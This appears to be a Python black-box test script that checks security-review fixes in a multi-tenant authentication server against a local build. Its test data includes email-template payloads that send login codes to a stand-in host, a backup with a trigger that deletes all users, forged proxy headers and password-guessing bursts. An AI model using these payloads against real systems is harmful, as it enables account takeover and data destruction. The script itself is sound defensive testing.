#!/usr/bin/env python3
"""Black-box checks of the security review's findings (issue 14) against a built `platform`.

The integration tests (platform/tests/api/security.rs, backup.rs, cluster.rs) cover every finding
on both backends; this script checks the ones a client can see, over HTTP and the command line,
against the release binary, as an attacker would meet it:

    python3 scripts/security_blackbox.py --bin target/release/platform [--database-url postgres://…]

With `--database-url` (a server's URL; its user may create databases), each platform the script
starts gets a fresh database of its own on that server.

Only the standard library. Each check prints PASS or FAIL with the reason; the exit status is 1
when any fails.
"""

import argparse
import concurrent.futures
import email
import email.policy
import glob
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

PASSWORD = "Correct-Horse-Battery-9"
ATTACKER = "Attacker-Chosen-Phrase-1"
FAILED = []


def check(name, ok, detail=""):
    print(("PASS " if ok else "FAIL ") + name + ("" if ok or not detail else f" -- {detail}"), flush=True)
    if not ok:
        FAILED.append(name)
    return ok


class Platform:
    """One `platform serve` on a free port, with its own data and mail directories."""

    def __init__(self, binary, database_url=None, env=None):
        self.binary = os.path.abspath(binary)
        self.tmp = tempfile.mkdtemp(prefix="security-")
        self.mail = os.path.join(self.tmp, "mail")
        os.makedirs(self.mail)
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        self.port = s.getsockname()[1]
        s.close()
        self.env = {k: v for k, v in os.environ.items() if not k.startswith("PLATFORM_")}
        self.env.update(
            PLATFORM_LISTEN=f"127.0.0.1:{self.port}",
            PLATFORM_DATA_DIR=os.path.join(self.tmp, "data"),
            PLATFORM_MAIL_DIR=self.mail,
            PLATFORM_PUBLIC_URL=f"http://127.0.0.1:{self.port}",
        )
        if database_url:
            name = f"security_{os.getpid()}_{self.port}"
            subprocess.run(["psql", database_url, "-qc", f"CREATE DATABASE {name}"], check=True)
            self.env["PLATFORM_DATABASE_URL"] = database_url.rsplit("/", 1)[0] + "/" + name
        self.env.update(env or {})
        self.proc = None

    def cli(self, *args):
        r = subprocess.run([self.binary, *args], env=self.env, capture_output=True, timeout=120)
        return r.returncode, r.stdout.decode(errors="replace"), r.stderr.decode(errors="replace")

    def start(self):
        log = open(os.path.join(self.tmp, "serve.log"), "wb")
        self.proc = subprocess.Popen([self.binary, "serve"], env=self.env, stdout=log, stderr=subprocess.STDOUT)
        end = time.time() + 30
        while time.time() < end and self.proc.poll() is None:
            if self.call("GET", "/health/live")[0] == 200:
                return True
            time.sleep(0.1)
        return False

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        shutil.rmtree(self.tmp, ignore_errors=True)

    def call(self, method, path, body=None, token=None, headers=None, raw=None):
        data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
        req = urllib.request.Request(f"http://127.0.0.1:{self.port}{path}", data=data, method=method)
        if body is not None:
            req.add_header("Content-Type", "application/json")
        if token:
            req.add_header("Authorization", "Bearer " + token)
        for k, v in (headers or {}).items():
            req.add_header(k, v)
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return r.status, dict(r.headers), parse(r.read())
        except urllib.error.HTTPError as e:
            return e.code, dict(e.headers), parse(e.read())
        except OSError:
            return 0, {}, None

    def messages_to(self, addr):
        out = []
        for f in sorted(glob.glob(os.path.join(self.mail, "*")), key=lambda f: os.stat(f).st_mtime_ns):
            msg = email.message_from_bytes(open(f, "rb").read(), policy=email.policy.default)
            if addr.lower() in str(msg.get("To", "")).lower():
                body = msg.get_body(preferencelist=("plain",))
                out.append(body.get_content() if body else "")
        return out

    def wait_for(self, addr, pattern, after=0, timeout=20):
        end = time.time() + timeout
        while time.time() < end:
            for text in reversed(self.messages_to(addr)[after:]):
                m = re.search(pattern, text)
                if m:
                    return m.group(1)
            time.sleep(0.1)
        return None


def parse(raw):
    try:
        return json.loads(raw)
    except ValueError:
        return None


CODE = r"(?<!\d)(\d{6})(?!\d)"
TOKEN = r"token=([A-Za-z0-9_\-]+)"


def lift(p, tenant, owner_token, buckets):
    generous = {"per_minute": 10000, "burst": 10000}
    return p.call("PATCH", f"/v1/tenants/{tenant}/settings", {"rate_limits": {b: generous for b in buckets}}, owner_token)[0]


def owner_of(p, slug):
    """Creates `slug` with an owner through the CLI and the invitation; the owner's token."""
    rc, _, err = p.cli("tenant", "create", slug, "--owner", f"owner@{slug}.test")
    if rc != 0:
        return None
    tok = p.wait_for(f"owner@{slug}.test", TOKEN)
    st, _, pair = p.call("POST", f"/v1/tenants/{slug}/auth/invitations/accept", {"token": tok, "password": PASSWORD})
    return pair.get("access_token") if st == 200 else None


def run(binary, database_url):
    # -- one platform with the defaults ------------------------------------------------------
    p = Platform(binary, database_url)
    try:
        check("a slug that reads as a UUID is refused",
              p.cli("tenant", "create", "123e4567-e89b-12d3-a456-426614174000")[0] == 1)
        if not check("platform serve starts", p.start()):
            return
        owner = owner_of(p, "acme")
        if not check("an owner signs in through the emailed invitation", owner is not None):
            return
        check("the owner lifts acme's per-address limits for the checks below",
              lift(p, "acme", owner, ["register_ip", "login_ip"]) == 200)

        # 1. A pending address: the attacker registers first, the victim within the cooldown.
        p.call("POST", "/v1/tenants/acme/auth/register", {"email": "vic@acme.test", "password": ATTACKER})
        code = p.wait_for("vic@acme.test", CODE)
        p.call("POST", "/v1/tenants/acme/auth/register", {"email": "vic@acme.test", "password": PASSWORD})
        st, _, pair = p.call("POST", "/v1/tenants/acme/auth/email/verify", {"email": "vic@acme.test", "code": code or ""})
        check("verifying a contested registration signs in without a password",
              st == 200 and (pair or {}).get("user", {}).get("has_password") is False, f"{st} {pair}")
        st, _, _ = p.call("POST", "/v1/tenants/acme/auth/login", {"email": "vic@acme.test", "password": ATTACKER})
        check("the attacker's password does not open the victim's account", st == 401, str(st))
        n = len(p.messages_to("owner@acme.test"))
        a = p.call("POST", "/v1/tenants/acme/auth/register", {"email": "owner@acme.test", "password": PASSWORD})
        b = p.call("POST", "/v1/tenants/acme/auth/register", {"email": "fresh@acme.test", "password": PASSWORD})
        strip = lambda r: (r[0], {k: v for k, v in (r[2] or {}).items() if k != "request_id"})
        check("sign-up answers alike for taken and new addresses", strip(a) == strip(b) and a[0] == 202)
        notice = p.wait_for("owner@acme.test", r"(already has an account)", after=n)
        check("a taken address gets an account-exists notice, not a code", notice is not None)

        # 2. Template overrides that would carry the code away are refused.
        for html in [
            '{% if code != "482915" %}<img src="https://evil.test/?c={{ code }}">{% endif %}{{ code }}',
            '<img src="https:evil.test/?c={{ code }}">{{ code }}',
            '<img src="https:&#x2F;&#x2F;evil.test/?c={{ code }}">{{ code }}',
            '<p>{{ code }}</p><p>evil.test/c<b>{{ code }}</b></p>',
        ]:
            st, _, body = p.call("PATCH", "/v1/tenants/acme/settings",
                                 {"email_templates": {"login_code": {"html": html}}}, owner)
            check(f"a template override is refused: {html[:40]}…", st == 400, f"{st} {body}")

        # 4. A burst at one account: no more checks than the 5-failure account allowance.
        st, _, _ = p.call("POST", "/v1/tenants/acme/auth/register", {"email": "bob@acme.test", "password": PASSWORD})
        code = p.wait_for("bob@acme.test", CODE)
        p.call("POST", "/v1/tenants/acme/auth/email/verify", {"email": "bob@acme.test", "code": code or ""})

        def attempt(i):
            pw = PASSWORD if i == 0 else "Wrong-Password-1"
            return p.call("POST", "/v1/tenants/acme/auth/login", {"email": "bob@acme.test", "password": pw})[0]

        with concurrent.futures.ThreadPoolExecutor(40) as pool:
            answers = list(pool.map(attempt, range(40)))
        # A success gives its cell back, so the right password may be one more check; the wrong
        # guesses checked are what the throttle bounds.
        wrong = answers.count(401)
        check("a burst of 40 guesses gets at most 5 wrong ones checked",
              wrong <= 5 and answers.count(200) <= 1 and set(answers) <= {200, 401, 429},
              f"{wrong} wrong checked: {answers}")

        # 9. A cookie-mode refresh with no body at all.
        time.sleep(1)
        req = urllib.request.Request(f"http://127.0.0.1:{p.port}/v1/tenants/acme/auth/login",
                                     data=json.dumps({"email": "owner@acme.test", "password": PASSWORD, "cookie": True}).encode(),
                                     headers={"Content-Type": "application/json"}, method="POST")
        with urllib.request.urlopen(req, timeout=30) as r:
            cookie = r.headers.get("Set-Cookie", "").split(";")[0]
            csrf = json.loads(r.read()).get("csrf_token", "")
        st, _, body = p.call("POST", "/v1/tenants/acme/auth/token/refresh", headers={"Cookie": cookie, "X-CSRF-Token": csrf})
        check("a cookie-mode refresh needs no body", st == 200, f"{st} {body}")
    finally:
        p.stop()

    # 6. Behind a trusted proxy, one client's failures do not block another.
    p = Platform(binary, database_url, {"PLATFORM_TRUSTED_PROXIES": "127.0.0.1/32"})
    try:
        if p.start():
            owner = owner_of(p, "acme")
            answers = [p.call("POST", "/v1/tenants/acme/auth/login",
                              {"email": f"n{i}@acme.test", "password": "Wrong-Password-1"},
                              headers={"X-Forwarded-For": "203.0.113.66"})[0] for i in range(12)]
            st = p.call("POST", "/v1/tenants/acme/auth/login", {"email": "owner@acme.test", "password": PASSWORD},
                        headers={"X-Forwarded-For": "1.2.3.4, 203.0.113.7"})[0]
            check("behind a trusted proxy, one client's failures do not block another",
                  answers[-1] == 429 and st == 200, f"{answers} then {st}")
            st = p.call("POST", "/v1/tenants/acme/auth/login", {"email": "owner@acme.test", "password": PASSWORD},
                        headers={"Forwarded": "for=198.51.100.1", "X-Forwarded-For": "203.0.113.66"})[0]
            check("a client's own Forwarded header is not read behind an X-Forwarded-For proxy", st == 429, str(st))
        else:
            check("platform serve starts behind a trusted proxy", False)
    finally:
        p.stop()

    # 7. One address across many tenants meets the platform-wide budget; /metrics is private.
    p = Platform(binary, database_url, {
        "PLATFORM_PASSWORD_CHECKS_PER_IP_PER_MINUTE": "1",
        "PLATFORM_PASSWORD_CHECKS_PER_IP_BURST": "4",
        "PLATFORM_METRICS_TOKEN": "a-long-scrape-token-0123",
    })
    try:
        for i in range(5):
            p.cli("tenant", "create", f"tenant-{i}")
        if p.start():
            answers = [p.call("POST", f"/v1/tenants/tenant-{i}/auth/login",
                              {"email": "x@y.test", "password": "Wrong-Password-1"})[0] for i in range(5)]
            check("one address gets 4 hashes across tenants, then 429", answers == [401, 401, 401, 401, 429], str(answers))
            check("/metrics refuses a scrape without its token", p.call("GET", "/metrics")[0] == 401)
            check("/metrics answers with its token", p.call("GET", "/metrics", token="a-long-scrape-token-0123")[0] == 200)
        else:
            check("platform serve starts with a budget", False)
    finally:
        p.stop()

    # 3. A backup carrying code is refused by `tenant import` (SQLite: a trigger).
    if not database_url:
        p = Platform(binary)
        try:
            p.cli("tenant", "create", "delta")
            out = os.path.join(p.tmp, "backup")
            rc, _, err = p.cli("tenant", "export", "delta", "--to", out)
            db = sqlite3.connect(os.path.join(out, "tenant.db"))
            db.execute("CREATE TRIGGER t AFTER INSERT ON seaql_migrations BEGIN DELETE FROM users; END")
            db.commit()
            db.close()
            rc, _, err = p.cli("tenant", "import", "delta", "--from", out, "--replace")
            check("a backup holding a trigger is refused", rc == 1 and "trigger" in err, f"{rc} {err.strip()[-200:]}")
            rc, out_list, _ = p.cli("tenant", "list")
            check("and the tenant it would have replaced is still there", "delta" in out_list, out_list)
        finally:
            p.stop()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--bin", default="target/release/platform")
    ap.add_argument("--database-url")
    args = ap.parse_args()
    run(args.bin, args.database_url)
    print(f"{'all passed' if not FAILED else str(len(FAILED)) + ' failed'}", flush=True)
    sys.exit(1 if FAILED else 0)


if __name__ == "__main__":
    main()
